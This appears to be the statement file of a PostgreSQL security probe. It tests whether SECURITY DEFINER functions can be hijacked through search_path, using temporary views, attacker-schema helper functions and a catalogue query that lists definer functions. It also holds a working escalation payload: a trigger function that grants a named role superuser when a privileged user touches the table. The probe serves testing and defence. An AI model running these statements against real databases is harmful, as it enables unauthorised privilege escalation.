-- attempts to have one's own code run with somebody else's rights

-- statement: settings_table
create table wb_probe.wb_settings as
select 'its own table' as value;

-- statement: definer_no_path
create function wb_probe.definer()
returns text
language plpgsql security definer
as 'begin return (select s.value from wb_settings s); end';

-- statement: definer_path
create function wb_probe.definer()
returns text
language plpgsql security definer
set search_path = wb_probe
as 'begin return (select s.value from wb_settings s); end';

-- statement: definer_path_temp_last
create function wb_probe.definer()
returns text
language plpgsql security definer
set search_path = wb_probe, pg_temp
as 'begin return (select s.value from wb_settings s); end';

-- statement: definer_atomic
create function wb_probe.definer()
returns text
language sql security definer
begin atomic
    select s.value
    from wb_probe.wb_settings s;
end;

-- statement: definer_calling
create function wb_probe.definer()
returns text
language plpgsql security definer
as 'begin return wb_helper(); end';

-- statement: definer_calling_with_path
create function wb_probe.definer()
returns text
language plpgsql security definer
set search_path = wb_probe, pg_temp
as 'begin return wb_helper(); end';

-- statement: own_helper
create function wb_probe.wb_helper()
returns text
language sql
as 'select ''its own function''::text';

-- statement: open
grant execute on all functions in schema wb_probe to public;

-- statement: who
create function pg_temp.who()
returns text
language plpgsql
as 'begin raise notice ''ran as %'', current_user; return ''ran as '' || current_user; end';

-- statement: shadow_table
create temporary view wb_settings as
select pg_temp.who() as value;

-- statement: show_shadow
grant select on {name} to public;

-- statement: shadow_path
select pg_catalog.set_config('search_path', %(path)s, true);

-- statement: call
select wb_probe.definer();

-- statement: attacker_schema
create schema wb_attacker;

-- statement: attacker_helper
create function {schema}.wb_helper()
returns text
language sql
as 'select ''ran as '' || current_user';

-- statement: definers
-- the functions that run as their owner, with the relations that their text names
select
    n.nspname as schema_name,
    p.proname as function_name,
    o.rolname as owner,
    p.prorettype = 'pg_catalog.trigger'::pg_catalog.regtype
        or p.prorettype = 'pg_catalog.event_trigger'::pg_catalog.regtype as is_trigger,
    p.prokind::text as kind,
    array(
        select pg_catalog.format_type(a.type, null)
        from pg_catalog.unnest(p.proargtypes::oid[]) with ordinality a (type, position)
        order by a.position
    ) as argument_types,
    (
        select pg_catalog.substr(s.setting, pg_catalog.strpos(s.setting, '=') + 1)
        from pg_catalog.unnest(p.proconfig) s (setting)
        where s.setting like 'search_path=%%'
    ) as search_path,
    p.prosqlbody is not null as atomic,
    array(
        select distinct c.relname
        from pg_catalog.pg_class c
        join pg_catalog.pg_namespace cn on cn.oid = c.relnamespace
        where c.relkind in ('r', 'p', 'v', 'm')
            and cn.nspname !~ '^pg_'
            and cn.nspname <> 'information_schema'
            and pg_catalog.strpos(p.prosrc, c.relname) > 0
        order by c.relname
    )::text[] as relations
from pg_catalog.pg_proc p
join pg_catalog.pg_namespace n on n.oid = p.pronamespace
join pg_catalog.pg_roles o on o.oid = p.proowner
where p.prosecdef
    and n.nspname not in ('pg_catalog', 'information_schema')
    and not exists (
        select
        from pg_catalog.pg_depend d
        where d.classid = 'pg_catalog.pg_proc'::pg_catalog.regclass
            and d.objid = p.oid
            and d.deptype = 'e'
    )
order by n.nspname, p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid);

-- statement: shadow_relation
create temporary view {name} as
select pg_temp.who() as wb_column;

-- statement: trigger_function
create function {schema}.wb_rise()
returns trigger
language plpgsql
as $body$
begin
    execute pg_catalog.format('alter role %I superuser', tg_argv[0]);
    return null;
end
$body$;

-- statement: trigger
create trigger wb_rise
after insert or update or delete on {table}
for each statement
execute function {schema}.wb_rise({role});

-- statement: touch
delete from {table} t
where false;

-- statement: is_superuser
select r.rolsuper
from pg_catalog.pg_roles r
where r.rolname = %(role)s;
